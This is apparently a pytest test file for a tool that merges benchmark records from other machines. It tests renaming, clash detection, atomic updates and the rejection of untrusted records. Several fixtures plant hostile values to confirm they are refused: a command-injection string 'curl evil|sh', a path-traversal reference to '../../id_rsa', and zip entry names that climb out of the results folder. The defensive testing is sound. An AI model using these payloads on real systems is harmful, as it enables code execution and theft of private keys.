"""Records of other machines come in under their new names; what clashes is refused with the rename that solves it."""

import shutil
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import synthetic

from whichdevice.base.errors import StudyError
from whichdevice.base.files import write_atomically
from whichdevice.measure.machine.facts import this_machine
from whichdevice.measure.record import Machine
from whichdevice.study.config.load import load_study
from whichdevice.study.config.model import Device
from whichdevice.study.records.store import (
    MergedSource,
    measured_elsewhere,
    merged_records,
    merged_sources,
    read_record,
    write_keys,
    write_record,
)
from whichdevice.study.remote.publish import publish
from whichdevice.study.remote.records import bring_records
from whichdevice.study.remote.transfer import Place

ROOT = Path("results/small")
OTHER = Machine(cpu="Other CPU", memory=2**34, operating_system="Linux", identity="bbbb")
KEY, NEWER = "0123456789ab", "ffffffffffff"


def results(folder: Path, machine: Machine = OTHER, devices: tuple[str, ...] = ("cpu",), **more: Any) -> Path:
    """A results folder of a machine."""
    kinds = {name: Device.model_validate({"kind": name.split("_")[0], **more}) for name in devices}
    study = synthetic.small_study(devices=kinds)
    synthetic.write_study(study, folder, change=lambda run, record: record.model_copy(update={"machine": machine}))
    return folder


def bring(*sources: str, rename: dict[str, str] | None = None, **config: Any) -> list[str]:
    """Bring the records of these sources into a study of a CPU."""
    return bring_records(load_study({**synthetic.SMALL, "records": list(sources), "rename": rename or {}, **config}))


def change(path: Path, hours: float = 0, **changes: Any) -> None:
    """Change a record, and let it end so many hours later."""
    record = read_record(path)
    write_record(record.model_copy(update={"ended": record.ended + timedelta(hours=hours), **changes}), path)


def tree() -> dict[str, tuple[bytes, int]]:
    """Content and time of every file."""
    return {str(path): (path.read_bytes(), path.stat().st_mtime_ns) for path in ROOT.rglob("*") if path.is_file()}


def records(folder: Path) -> list[Path]:
    return sorted(folder.rglob("record.json"))


@pytest.fixture
def other(working_folder: Path) -> Path:
    """A results folder of another machine."""
    return results(working_folder / "other")


def test_renamed_records_are_of_another_device_with_its_sheet_row_and_price(working_folder: Path) -> None:
    results(working_folder / "other", usd_per_hour=0.5, hardware="TPU v2")
    (line,) = bring("other", rename={"cpu": "laptop"})
    ((folder, source),) = merged_sources(ROOT).items()
    assert line == f"records of other: 4 of laptop (cpu there); to leave them out again, delete {folder}"
    laptop = source.devices["laptop"]
    assert (laptop.kind, laptop.usd_per_hour, laptop.hardware) == ("cpu", 0.5, "TPU v2")
    assert measured_elsewhere(ROOT) == {"laptop"} and len(merged_records(ROOT)) == 4
    for run, path in merged_records(ROOT).items():
        record = read_record(path)
        assert record.run == run.path and record.asked.device == run.cell.device == "laptop"


@pytest.mark.parametrize("below", ["", "runs"])
def test_the_record_that_counts_there_comes_else_the_newest(other: Path, below: str) -> None:
    first = records(other)[0]
    run = first.parent.relative_to(other / "runs").as_posix()
    for key, hours in ((KEY, 0), (NEWER, 1)):
        (first.parent / key).mkdir()
        shutil.copy(first, first.parent / key / "record.json")
        change(first.parent / key / "record.json", hours, reason=key)
    first.unlink()
    write_keys({run: KEY}, other)
    bring(f"other/{below}", rename={"cpu": "laptop"})
    assert len(records(ROOT)) == 4
    reasons = {read_record(path).reason for path in records(ROOT)} - {None}
    assert reasons == {NEWER if below else KEY}


@pytest.mark.parametrize("kind", ["folder", "zip", "bucket"])
def test_a_second_time_changes_what_has_changed_alone(other, kind, request) -> None:
    def source() -> str:
        if kind == "bucket":
            place: Place = request.getfixturevalue("bucket")
            publish(other, place)
            return f"{place.address}/other"
        if kind == "zip":
            with zipfile.ZipFile("other.zip", "w") as archive:
                for path in other.rglob("*"):
                    archive.write(path, path.relative_to(other))
        return "other.zip" if kind == "zip" else "other"

    bring(source(), rename={"cpu": "laptop"})
    before = tree()
    bring(source(), rename={"cpu": "laptop"})
    assert tree() == before and len(merged_records(ROOT)) == 4
    first = records(other)[0]
    change(first, 1, reason="again")
    bring(source(), rename={"cpu": "laptop"})
    assert [name.rpartition("/")[2] for name in tree() if tree()[name] != before[name]] == ["record.json"]


def test_a_record_that_is_gone_there_leaves(other: Path) -> None:
    bring("other", rename={"cpu": "laptop"})
    records(other)[1].unlink()
    bring("other", rename={"cpu": "laptop"})
    assert len(records(ROOT)) == 3 == len(merged_records(ROOT))


def test_what_stops_midway_changes_nothing(other: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bring("other", rename={"cpu": "laptop"})
    before = tree()
    for path in records(other):
        change(path, 1)
    read, seen = Place.read, []

    def breaks(place: Place, name: str) -> bytes:
        seen.append(name)
        if len(seen) > 2:
            raise ConnectionResetError
        return read(place, name)

    monkeypatch.setattr(Place, "read", breaks)
    with pytest.raises(StudyError, match="connection broke"):
        bring("other", rename={"cpu": "laptop"})
    assert tree() == before


def test_a_run_that_this_machine_would_measure_too_needs_another_name(other: Path) -> None:
    line = r"records: cpu of other was measured on another machine .*; give it another name: --rename cpu=cpu_2$"
    with pytest.raises(StudyError, match=line):
        bring("other")
    assert not (ROOT / "merged").exists()
    bring("other", run_on="all")  # a scheduler's machines
    assert measured_elsewhere(ROOT) == set()


def test_records_of_this_very_machine_need_no_other_name(working_folder: Path) -> None:
    results(working_folder / "other", machine=this_machine())
    bring("other")
    assert {run.cell.device for run in merged_records(ROOT)} == {"cpu"} and measured_elsewhere(ROOT) == set()
    bring("other", rename={"cpu": "before"})  # such as with another driver
    assert measured_elsewhere(ROOT) == {"before"}


def test_two_sources_with_one_name_clash_unless_they_are_of_one_machine(other: Path) -> None:
    shutil.copytree(other, "copy")
    first = records(Path("copy"))[0]
    change(first, 1)
    bring("other", "copy", rename={"cpu": "laptop"})
    ends = {read_record(path).ended for path in merged_records(ROOT).values()}
    assert read_record(first).ended in ends  # of one run the later record counts
    for name, machine in (("third", {"identity": "cccc"}), ("fourth", {"device_name": "Other GPU"})):
        results(Path(name), machine=OTHER.model_copy(update=machine))
        if "device_name" in machine:
            results(Path("copy"), machine=OTHER.model_copy(update={"device_name": "GPU"}))
            bring("copy", rename={"cpu": "laptop"})
        with pytest.raises(StudyError, match=rf"cpu of {name} was measured on another machine .* --rename cpu=cpu_2"):
            bring(name, rename={"cpu": "laptop"})


def test_what_a_source_brought_itself_comes_too(other: Path) -> None:
    results(Path("third"), devices=("gpu",))
    bring("other", "third", rename={"cpu": "laptop"}, study="between")
    bring("results/between")
    assert {run.cell.device for run in merged_records(ROOT)} == {"laptop", "gpu"}


@pytest.mark.parametrize(
    ("sources", "rename", "line"),
    [
        (["gone"], {}, r"records: no sound record\.json of a run below gone$"),
        (["other"], {"gpu": "x"}, "records: rename: no source has a device gpu; did you mean cpu?"),
        (["both"], {"cpu": "box", "gpu": "box"}, "records: both: after renaming, box is two devices; rename both"),
    ],
)
def test_a_wrong_call_is_one_line(other: Path, sources: list[str], rename: dict[str, str], line: str) -> None:
    results(Path("both"), devices=("cpu", "gpu"))
    with pytest.raises(StudyError, match=line):
        bring(*sources, rename=rename, devices={"box": {"kind": "gpu"}})


OTHER_RUN = "says that it is of another run than its path"
LIES = [  # parts of the record, what stands in their places, and the reason
    ({'"file": "weights.npz"': '"file": "../../id_rsa"'}, "artefact 'weights' is no file beside the record"),
    ({'/r1"': '/r7"'}, OTHER_RUN),
    ({'"run": "cpu/': '"run": "laptop/', '"device": "cpu"': '"device": "laptop"'}, OTHER_RUN),
    ({'"kind": "cpu"': '"kind": "cpu; curl evil|sh"'}, "is no kind of device"),
    ({'"schema_version": ': '"schema_version": 9'}, "unreadable: schema_version: "),
]


@pytest.mark.parametrize(("lies", "reason"), LIES)
def test_a_record_that_cannot_be_trusted_is_left_out_with_the_reason(other, lies, reason) -> None:
    first = records(other)[0]
    text = first.read_text()
    for right, lie in lies.items():
        assert right in text
        text = text.replace(right, lie, 1)
    first.write_text(text)
    _, line = bring("other", rename={"cpu": "laptop"})
    assert line.startswith("records of other: 1 left out; the first: cpu/mnist_cnn/") and reason in line
    assert len(records(ROOT)) == 3 == len(merged_records(ROOT))


def test_a_name_that_leads_out_of_the_results_is_not_read(other: Path) -> None:
    record = records(other)[0]
    run = record.relative_to(other / "runs").as_posix()
    with zipfile.ZipFile("odd.zip", "w") as archive:
        for name in (f"runs/{run}", f"runs/../../../out/{run}", f"merged/../../../away/{run}"):
            archive.writestr(name, record.read_bytes())
    bring("odd.zip", rename={"cpu": "laptop"})
    assert len(merged_records(ROOT)) == 1


@pytest.mark.parametrize("text", ["", "[", "devices: {cpu: 7}", "studdy: x", "workloads: {evil.py: {}}"])
def test_a_config_there_that_cannot_be_read_takes_no_record_away(other: Path, text: str) -> None:
    (other / "config.yaml").write_text(text)
    bring("other", rename={"cpu": "laptop"})
    assert len(merged_records(ROOT)) == 4


def test_records_of_a_device_that_source_json_does_not_name_do_not_count(other: Path) -> None:
    bring("other", rename={"cpu": "laptop"})
    ((folder, _),) = merged_sources(ROOT).items()
    write_atomically(MergedSource().model_dump_json(), folder / "source.json")
    assert merged_records(ROOT) == {}


@pytest.mark.parametrize("text", ["{", "1", "[" * 100_000, '{"devices": {"x": {"kind": "car"}}}'])
def test_a_garbled_source_is_one_line_with_the_way_out(working_folder: Path, text: str) -> None:
    write_atomically(text, ROOT / "merged/a/source.json")
    with pytest.raises(StudyError, match=r"cannot read .*merged/a/source\.json: delete .*merged/a and bring its"):
        merged_records(ROOT)
